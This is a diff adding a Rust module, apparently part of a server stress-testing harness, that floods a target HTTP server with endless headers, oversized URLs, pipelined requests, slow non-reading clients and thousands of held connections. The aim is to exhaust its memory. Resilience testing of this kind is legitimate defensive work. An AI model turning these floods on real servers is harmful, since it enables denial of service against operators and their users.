@@ -1,0 +1,147 @@
+//! Strikes at memory: endless heads and bodies, answers that nobody reads.
+
+use super::Aim;
+use super::connections::{attacker, crowd, tally};
+use crate::client::{self, get};
+use socket2::SockRef;
+use std::io::{Read as _, Write as _};
+use std::net::TcpStream;
+use std::time::{Duration, Instant};
+
+/// Sends a head and then a piece again and again, up to so many times or 10 s, while the answer
+/// is read; how much went, and what came.
+fn flood(aim: &Aim, head: &[u8], piece: &[u8], times: usize, end: &[u8]) -> Result<String, String> {
+    let stream = client::connect(aim.address, attacker(0), Duration::from_secs(2));
+    let mut stream = stream.map_err(|error| format!("no connection: {error}"))?;
+    let mut copy = stream.try_clone().map_err(|error| error.to_string())?;
+    let reader = std::thread::spawn(move || {
+        let mut answer = Vec::new();
+        let mut buffer = [0; 4096];
+        while let Ok(count @ 1..) = copy.read(&mut buffer) {
+            answer.extend_from_slice(&buffer[..count]);
+        }
+        answer
+    });
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let mut sent = head.len();
+    let mut open = stream.write_all(head).is_ok();
+    for _ in 0..times {
+        open = open && Instant::now() < deadline && stream.write_all(piece).is_ok();
+        if !open {
+            break;
+        }
+        sent += piece.len();
+    }
+    if open {
+        // What comes of it is in the answer.
+        let _ = stream.write_all(end);
+    }
+    let answer = reader.join().unwrap_or_default();
+    let told = match client::statuses(&answer)[..] {
+        [status, ..] => format!("told {status}"),
+        [] => "no answer".to_owned(),
+    };
+    let end = if open { "all of it taken" } else { "closed" };
+    Ok(format!("{told}, {end} after {}", bytes(sent)))
+}
+
+fn bytes(count: usize) -> String {
+    match count {
+        0..10_000 => format!("{count} B"),
+        10_000..10_000_000 => format!("{} KiB", count >> 10),
+        _ => format!("{} MiB", count >> 20),
+    }
+}
+
+pub(crate) fn header(aim: &Aim) -> Result<String, String> {
+    let head = b"GET / HTTP/1.1\r\nHost: attack\r\nX: ";
+    flood(aim, head, &[b'x'; 1 << 16], 1 << 14, b"\r\n\r\n")
+}
+
+pub(crate) fn url(aim: &Aim) -> Result<String, String> {
+    let end = b" HTTP/1.1\r\nHost: attack\r\n\r\n";
+    flood(aim, b"GET /", &[b'x'; 1 << 16], 1 << 12, end)
+}
+
+pub(crate) fn headers(aim: &Aim) -> Result<String, String> {
+    let lines = b"X: y\r\n".repeat(1_000);
+    flood(
+        aim,
+        b"GET / HTTP/1.1\r\nHost: attack\r\n",
+        &lines,
+        100,
+        b"\r\n",
+    )
+}
+
+pub(crate) fn nonreaders(aim: &Aim) -> Result<String, String> {
+    let streams = crowd(aim, 64);
+    let request = get(&aim.large, "");
+    for mut stream in &streams {
+        // The less the kernel takes for the peer, the more is left to the server.
+        let _ = SockRef::from(stream).set_recv_buffer_size(4096);
+        let _ = stream.write_all(&request);
+    }
+    std::thread::sleep(aim.hold);
+    Ok(format!("{} opened", streams.len()))
+}
+
+/// Sends as many requests as are taken, and reads nothing.
+fn pump(aim: &Aim, streams: &[TcpStream]) -> usize {
+    let requests = get(&aim.path, "").repeat(500);
+    let deadline = Instant::now() + aim.hold;
+    let mut sent = 0;
+    for stream in streams {
+        let _ = stream.set_nonblocking(true);
+    }
+    while Instant::now() < deadline {
+        let before = sent;
+        for mut stream in streams {
+            // A part of a request at the end of a short write is no matter here.
+            sent += stream.write(&requests).unwrap_or(0);
+        }
+        if sent == before {
+            std::thread::sleep(Duration::from_millis(1));
+        }
+    }
+    sent
+}
+
+pub(crate) fn pipeline_one(aim: &Aim) -> Result<String, String> {
+    let streams = crowd(aim, 1);
+    Ok(format!("{} taken", bytes(pump(aim, &streams))))
+}
+
+pub(crate) fn pipeline_many(aim: &Aim) -> Result<String, String> {
+    let streams = crowd(aim, 20);
+    Ok(format!("{} taken", bytes(pump(aim, &streams))))
+}
+
+/// Sends this much on each of so many connections, as far as it is taken, and holds them.
+fn fill(aim: &Aim, count: usize, head: &[u8], fill: usize) -> Result<String, String> {
+    let streams = crowd(aim, count);
+    let mut message = head.to_vec();
+    message.resize(head.len() + fill, b'x');
+    let mut sent = vec![0; streams.len()];
+    for stream in &streams {
+        let _ = stream.set_nonblocking(true);
+    }
+    let deadline = Instant::now() + aim.hold;
+    while Instant::now() < deadline {
+        for (mut stream, sent) in streams.iter().zip(&mut sent) {
+            *sent += stream.write(&message[*sent..]).unwrap_or(0);
+        }
+        std::thread::sleep(Duration::from_millis(2));
+    }
+    let all = sent.iter().sum();
+    Ok(format!("{} taken; {}", bytes(all), tally(&streams)))
+}
+
+pub(crate) fn heads(aim: &Aim) -> Result<String, String> {
+    fill(aim, 3_000, b"GET / HTTP/1.1\r\nHost: attack\r\nX: ", 16_000)
+}
+
+pub(crate) fn uploads(aim: &Aim) -> Result<String, String> {
+    let head = b"PATCH /app/hello/i0 HTTP/1.1\r\nHost: attack\r\nContent-Length: 1000000\r\n\r\n";
+    fill(aim, 500, head, 900_000)
+}
